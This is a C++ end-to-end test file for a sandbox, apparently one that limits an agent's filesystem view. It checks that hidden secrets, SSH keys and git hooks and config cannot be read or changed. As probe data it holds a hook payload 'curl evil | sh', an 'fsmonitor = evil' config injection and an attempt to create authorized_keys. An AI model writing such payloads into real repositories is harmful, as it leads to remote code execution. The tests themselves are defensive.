// The filesystem view a profile describes, as the agent sees it and as the disk holds it after.
#include <sys/stat.h>
#include <unistd.h>

#include <catch2/catch.hpp>
#include <set>

#include "support/workspace.hpp"

namespace aarm::testing {
namespace {

// A directory outside the project, granted read-only, with one file in it.
ProfileSpec WithSharedReadPath(const std::string& shared) {
  ProfileSpec spec;
  spec.read.push_back(shared);
  return spec;
}

TEST_CASE("a read path is readable and not writable", "[e2e][filesystem]") {
  Workspace ws;
  std::string shared = ws.Root() + "/shared";
  WriteFileText(shared + "/notes.txt", "shared notes\n");
  ws.WriteProfile(ProfileToml(WithSharedReadPath(shared)));

  CHECK(ws.ProbeLine({"read", shared + "/notes.txt"}) == "ok shared notes\\n");
  CHECK(ws.ProbeLine({"write", shared + "/notes.txt", "changed"}) == "errno 30 EROFS");
  CHECK(ws.ProbeLine({"create", shared + "/new.txt"}) == "errno 30 EROFS");
  CHECK(ws.ProbeLine({"unlink", shared + "/notes.txt"}) == "errno 30 EROFS");
  CHECK(ws.ProbeLine({"chmod", shared + "/notes.txt"}) == "errno 30 EROFS");
  CHECK(ReadFileText(shared + "/notes.txt") == "shared notes\n");
  CHECK_FALSE(PathExists(shared + "/new.txt"));
}

TEST_CASE("a write path is writable and what the agent writes is on the host after",
          "[e2e][filesystem]") {
  Workspace ws;
  WriteFileText(ws.Project("existing.txt"), "before\n");
  auto result = ws.Run({"sh", "-c",
                        "echo made > made.txt && mkdir -p sub/dir && echo deep > sub/dir/f && "
                        "echo after > existing.txt && mv made.txt moved.txt"});
  CHECK(result.status == 0);
  CHECK(ReadFileText(ws.Project("moved.txt")) == "made\n");
  CHECK(ReadFileText(ws.Project("sub/dir/f")) == "deep\n");
  CHECK(ReadFileText(ws.Project("existing.txt")) == "after\n");
}

TEST_CASE("a hidden file reads empty and cannot be written", "[e2e][filesystem][hide]") {
  Workspace ws;
  WriteFileText(ws.Project(".env"), "API_KEY=secret-value\n");
  ProfileSpec spec;
  spec.hide = {"{project}/.env"};
  ws.WriteProfile(ProfileToml(spec));

  CHECK(ws.ProbeLine({"read", ws.Project(".env")}) == "ok");
  CHECK(ws.ProbeLine({"write", ws.Project(".env"), "overwritten"}) == "errno 13 EACCES");
  CHECK(ws.ProbeLine({"unlink", ws.Project(".env")}) == "errno 13 EACCES");
  CHECK(ws.ProbeLine({"rename", ws.Project(".env"), ws.Project("env.txt")}) == "errno 13 EACCES");
  CHECK(ReadFileText(ws.Project(".env")) == "API_KEY=secret-value\n");
  CHECK_FALSE(PathExists(ws.Project("env.txt")));
}

TEST_CASE("a hidden directory lists empty and nothing can be created in it",
          "[e2e][filesystem][hide]") {
  Workspace ws;
  WriteFileText(ws.Home(".ssh/id_ed25519"), "PRIVATE KEY\n");
  ProfileSpec spec;
  spec.read.push_back("{home}");
  spec.hide = {"{home}/.ssh"};
  ws.WriteProfile(ProfileToml(spec));

  CHECK(ws.ProbeLine({"list", ws.Home(".ssh")}) == "ok");
  CHECK(ws.ProbeLine({"read", ws.Home(".ssh/id_ed25519")}) == "errno 2 ENOENT");
  CHECK(ws.ProbeLine({"create", ws.Home(".ssh/authorized_keys")}) == "errno 13 EACCES");
  CHECK(ws.ProbeLine({"mkdir", ws.Home(".ssh/new")}) == "errno 13 EACCES");
  CHECK(ReadFileText(ws.Home(".ssh/id_ed25519")) == "PRIVATE KEY\n");
  CHECK_FALSE(PathExists(ws.Home(".ssh/authorized_keys")));
}

TEST_CASE("a readonly carve-out inside a write path stays read-only",
          "[e2e][filesystem][readonly]") {
  Workspace ws;
  WriteFileText(ws.Project(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
  WriteFileText(ws.Project(".git/config"), "[core]\n");
  ProfileSpec spec;
  spec.readonly = {"{project}/.git/hooks", "{project}/.git/config"};
  ws.WriteProfile(ProfileToml(spec));

  std::string hook = ws.Project(".git/hooks/pre-commit");
  CHECK(ws.ProbeLine({"read", hook}) == "ok #!/bin/sh\\nexit 0\\n");
  CHECK(ws.ProbeLine({"write", hook, "curl evil | sh"}) == "errno 13 EACCES");
  CHECK(ws.ProbeLine({"truncate", hook}) == "errno 13 EACCES");
  CHECK(ws.ProbeLine({"unlink", hook}) == "errno 13 EACCES");
  CHECK(ws.ProbeLine({"create", ws.Project(".git/hooks/post-checkout")}) == "errno 13 EACCES");
  CHECK(ws.ProbeLine({"rename", ws.Project(".git/hooks"), ws.Project(".git/hooks-old")}) ==
        "errno 13 EACCES");
  CHECK(ws.ProbeLine({"rmdir", ws.Project(".git/hooks")}) == "errno 13 EACCES");
  CHECK(ws.ProbeLine({"write", ws.Project(".git/config"), "[core]\nfsmonitor = evil\n"}) ==
        "errno 13 EACCES");
  WriteFileText(ws.Project(".git/config.new"), "[core]\nfsmonitor = evil\n");
  CHECK(ws.ProbeLine({"rename", ws.Project(".git/config.new"), ws.Project(".git/config")}) ==
        "errno 13 EACCES");
  // The rest of .git stays writable: git must still work.
  CHECK(ws.ProbeLine({"write", ws.Project(".git/HEAD"), "ref: refs/heads/main\n"}) ==
        "ok written");

  CHECK(ReadFileText(hook) == "#!/bin/sh\nexit 0\n");
  CHECK(ReadFileText(ws.Project(".git/config")) == "[core]\n");
  CHECK_FALSE(PathExists(ws.Project(".git/hooks/post-checkout")));
  CHECK_FALSE(PathExists(ws.Project(".git/hooks-old")));
}

TEST_CASE("host paths the profile does not list are absent", "[e2e][filesystem]") {
  Workspace ws;
  WriteFileText(ws.Outside("secret.txt"), "outside\n");
  CHECK(ws.ProbeLine({"exists", ws.Outside("secret.txt")}) == "errno 2 ENOENT");
  CHECK(ws.ProbeLine({"exists", ws.Outside()}) == "errno 2 ENOENT");
  CHECK(ws.ProbeLine({"exists", ws.Home()}) == "errno 2 ENOENT");
  for (const char* path : {"/var", "/root", "/home", "/boot", "/sys", "/run"}) {
    INFO(path);
    CHECK(ws.ProbeLine({"exists", path}) == "errno 2 ENOENT");
  }
  // The root lists the profile's top-level paths and what the sandbox builds itself.
  std::set<std::string> expected = {"bin", "dev", "etc", "lib", "lib64", "proc", "sbin", "tmp",
                                     "usr"};
  expected.insert(BinDir().substr(1, BinDir().find('/', 1) - 1));  // the probe's directory
  std::string listing = "ok";
  for (const auto& name : expected) listing += " " + name;
  CHECK(ws.ProbeLine({"list", "/"}) == listing);
}

TEST_CASE("/tmp is private to the session and TMPDIR points at it", "[e2e][filesystem]") {
  Workspace ws;
  std::string name = "/tmp/aarm-e2e-private-" + std::to_string(getpid());
  CHECK(ws.ProbeLine({"write", name, "scratch"}) == "ok written");
  CHECK_FALSE(PathExists(name));
  CHECK(ws.ProbeLine({"env", "TMPDIR"}) == "ok /tmp");
  // Each session starts with its own empty /tmp (the project's own path aside).
  CHECK(ws.ProbeLine({"exists", name}) == "errno 2 ENOENT");
}

TEST_CASE("the working directory is kept", "[e2e][filesystem]") {
  Workspace ws;
  mkdir(ws.Project("src").c_str(), 0755);
  mkdir(ws.Project("src/lib").c_str(), 0755);
  auto options = ws.AarmRun({ProbePath(), "cwd"});
  options.cwd = ws.Project("src/lib");
  CHECK(FirstLine(RunProcess(options).out) == "ok " + ws.Project("src/lib"));
}

TEST_CASE("a profile in the project is used without -p", "[e2e][filesystem]") {
  Workspace ws;
  ProfileSpec spec;
  spec.hide = {"{project}/hidden-by-project-profile"};
  WriteFileText(ws.Project(".aarm/profile.toml"), ProfileToml(spec));
  WriteFileText(ws.Project("hidden-by-project-profile"), "visible only without it\n");
  auto options = ws.AarmRun({});
  options.argv = {AarmRunPath(), "-q", "--", ProbePath(), "read",
                  ws.Project("hidden-by-project-profile")};
  CHECK(FirstLine(RunProcess(options).out) == "ok");
}

TEST_CASE("git works in the project under the shipped default profile", "[e2e][filesystem]") {
  if (!PathExists("/usr/bin/git")) {
    WARN("git is not installed");
    return;
  }
  Workspace ws;
  rmdir(ws.Project(".git").c_str());
  auto init = RunProcess({{"/usr/bin/git", "init", "-q", ws.Project()}, ws.Environment()});
  REQUIRE(init.status == 0);
  WriteFileText(ws.Project("main.c"), "int main(void) { return 0; }\n");
  ws.WriteProfile("version = 1\nextends = \"default\"\n[filesystem]\nread = [" +
                  std::string("\"") + BinDir() + "/probes\"]\n");
  auto result = ws.Run({"sh", "-c",
                        "git add main.c && git -c user.name=t -c user.email=t@example.com "
                        "commit -q -m first && git mv main.c app.c && "
                        "git -c user.name=t -c user.email=t@example.com commit -q -m rename && "
                        "git log --format=%s"});
  CHECK(result.status == 0);
  CHECK(result.out == "rename\nfirst\n");
  CHECK(PathExists(ws.Project("app.c")));
  // Its hooks stay out of reach all the same.
  CHECK(ws.ProbeLine({"create", ws.Project(".git/hooks/pre-commit")}) == "errno 13 EACCES");
}

}  // namespace
}  // namespace aarm::testing
